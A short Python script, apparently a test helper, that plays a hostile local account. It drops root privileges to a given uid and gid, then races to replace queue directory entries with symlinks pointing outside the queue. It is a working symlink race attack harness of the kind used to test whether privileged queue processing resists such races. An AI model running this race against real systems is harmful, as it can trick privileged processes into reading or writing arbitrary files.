"""A hostile account in its own queue: puts links in the place of directories, as fast as it can.

Started by root, it becomes the account first; it keeps hold of the directories that it swaps in.
"""

import contextlib
import os
import sys

place, outside, uid, gid = sys.argv[1:5]
os.setgroups([])
os.setgid(int(gid))
os.setuid(int(uid))
held = os.open(place, os.O_RDONLY)
inner = os.open("q1", os.O_RDONLY, dir_fd=held)
os.rename("q2", "q3", src_dir_fd=held, dst_dir_fd=held)  # or there is nothing to be seen here
os.rename("q3", "q2", src_dir_fd=held, dst_dir_fd=held)
print("at work", flush=True)
while True:
    for where, name in ((held, "q2"), (inner, "qf")):
        with contextlib.suppress(OSError):
            os.rename(name, "aside", src_dir_fd=where, dst_dir_fd=where)
        with contextlib.suppress(OSError):
            os.symlink(outside, name, dir_fd=where)
        with contextlib.suppress(OSError):
            os.unlink(name, dir_fd=where)
        with contextlib.suppress(OSError):
            os.rename("aside", name, src_dir_fd=where, dst_dir_fd=where)
